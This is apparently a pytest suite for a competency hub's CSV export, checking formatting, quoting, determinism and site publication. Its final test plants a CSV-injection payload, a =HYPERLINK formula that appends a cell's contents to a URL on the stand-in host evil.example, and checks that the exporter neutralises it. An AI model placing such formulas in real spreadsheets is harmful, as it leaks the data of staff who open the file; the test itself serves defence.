"""The flat CSV export: one row per behaviour, RFC 4180, UTF-8 with a BOM, CRLF, the same bytes every time.

docs/reference/exports/csv.md documents the columns and the row model; these tests hold the file to it.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
import yaml
from hub import REPO, broken_links, content, copy_hub, edit, export, page

from competency_hub.exports.flat_csv import COLUMNS

STARTER_MAPS = sorted(p.stem for p in (REPO / "maps").glob("*.yml"))


def parse(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def rfc4180(rows: list[list[str]]) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL).writerows(rows)
    return out.getvalue().encode("utf-8")


def exported_twice(capsys, tmp_path: Path) -> tuple[dict[str, bytes], dict[str, bytes]]:
    first = export(capsys, REPO, tmp_path / "first", "--format", "csv")
    second = export(capsys, REPO, tmp_path / "second", "--format", "csv")
    return first, second


def test_starter_maps_parse_back_to_their_behaviours(capsys, tmp_path: Path) -> None:
    first, second = exported_twice(capsys, tmp_path)
    assert sorted(first) == [f"csv/{m}.csv" for m in STARTER_MAPS]
    assert first == second  # the same bytes on every export
    for map_id in STARTER_MAPS:
        raw = first[f"csv/{map_id}.csv"]
        assert raw.startswith(b"\xef\xbb\xbf") and raw.endswith(b"\r\n")
        text = raw[3:].decode("utf-8")
        records = list(csv.reader(io.StringIO(text, newline="")))
        assert records[0] == COLUMNS
        assert rfc4180(records) == raw[3:]  # minimal quoting, doubled quotes, CRLF after every record
        source = yaml.safe_load((REPO / "maps" / f"{map_id}.yml").read_text(encoding="utf-8"))
        levels = {level["id"]: (str(n), level["name"]) for n, level in enumerate(source["scale"], start=1)}
        expected = [
            (source["id"], source["title"], c["id"], c["title"], " ".join(c["why"].split()), lid, *levels[lid], b["id"], b["text"].strip())
            for c in source["capabilities"]
            for lid in levels
            for b in c["behaviours"].get(lid, [])
        ]
        rows = parse(raw)
        got = [
            (r["Map id"], r["Map"], r["Capability id"], r["Capability"], " ".join(r["Why it matters"].split()), r["Level id"],
             r["Level number"], r["Level"], r["Behaviour id"], r["Behaviour"].strip())
            for r in rows
        ]
        assert got == expected, map_id  # every behaviour once, in map order
        assert len({(r["Capability id"], r["Behaviour id"]) for r in rows}) == len(rows)
        by_capability = {c["id"]: c for c in source["capabilities"]}
        for row in rows:
            capability = by_capability[row["Capability id"]]
            assert row["Evidence"].split("\n") == [" ".join(e["title"].split()) for e in capability["evidence"]]
            assert row["Critical"] == ("yes" if capability.get("critical") else "no")
            assert row["Capability status"] == capability.get("status", "active")
            assert row["Builds on"] == next(
                b.get("builds_on", "") for b in capability["behaviours"][row["Level id"]] if b["id"] == row["Behaviour id"]
            )
            count = len(capability.get("alignments", []))
            assert len(row["Alignments"].split("\n")) == len(row["Alignment URIs"].split("\n")) == count or (count == 0 and row["Alignments"] == row["Alignment URIs"] == "")


def test_alignments_are_one_line_each_with_their_address(capsys, tmp_path: Path) -> None:
    rows = parse(export(capsys, REPO, tmp_path / "out", "--format", "csv")["csv/customer-conversations.csv"])
    aligned = [r for r in rows if r["Alignments"]]
    assert aligned
    assert "O*NET-SOC: Customer Service Representatives (43-4051.00) [related]" in aligned[0]["Alignments"].split("\n")
    assert "https://www.onetonline.org/link/summary/43-4051.00" in aligned[0]["Alignment URIs"].split("\n")


def test_quotes_commas_line_breaks_and_accents(capsys, hub: Path, tmp_path: Path) -> None:
    edit(hub, "maps/support.yml", "title: Queue log", 'title: "Queue log, café \\"export\\""')
    raw = export(capsys, hub, tmp_path / "out", "--format", "csv")["csv/support.csv"]
    assert '"Queue log, café ""export"""'.encode("utf-8") in raw
    rows = parse(raw)
    assert {r["Evidence"] for r in rows if r["Capability id"] == "triage"} == {'Queue log, café "export"'}


@pytest.mark.build
def test_the_site_publishes_the_csv_and_the_data_page_links_it(site: Path, capsys, tmp_path: Path) -> None:
    published = (site / "exports" / "csv" / "support.csv").read_bytes()
    root = copy_hub(tmp_path)
    assert export(capsys, root, tmp_path / "out", "--format", "csv")["csv/support.csv"] == published
    main = content(page(site, "exports/"))
    assert main.find(id="csv") is not None
    hrefs = {a["href"] for a in main.find_all("a", href=True)}
    assert any(h.endswith("csv/support.csv") for h in hrefs) and any(h.endswith("csv/billing.csv") for h in hrefs)
    assert broken_links(site, [site / "exports" / "index.html"]) == []


def test_a_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(capsys, hub: Path, tmp_path: Path) -> None:
    """Map texts come by pull request from anyone and the file is opened by HR staff (CSV injection)."""
    edit(hub, "maps/support.yml", "text: Tags each ticket with the queue the macro list names.", 'text: "=HYPERLINK(\\"https://evil.example/?\\"&A1, \\"Tags\\")"')
    edit(hub, "maps/support.yml", "title: Queue log", 'title: "@SUM(1+1)"')
    rows = parse(export(capsys, hub, tmp_path / "out", "--format", "csv")["csv/support.csv"])
    behaviour = next(r for r in rows if r["Behaviour id"] == "triage-tags")
    assert behaviour["Behaviour"] == "'=HYPERLINK(\"https://evil.example/?\"&A1, \"Tags\")"
    assert behaviour["Evidence"] == "'@SUM(1+1)"
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
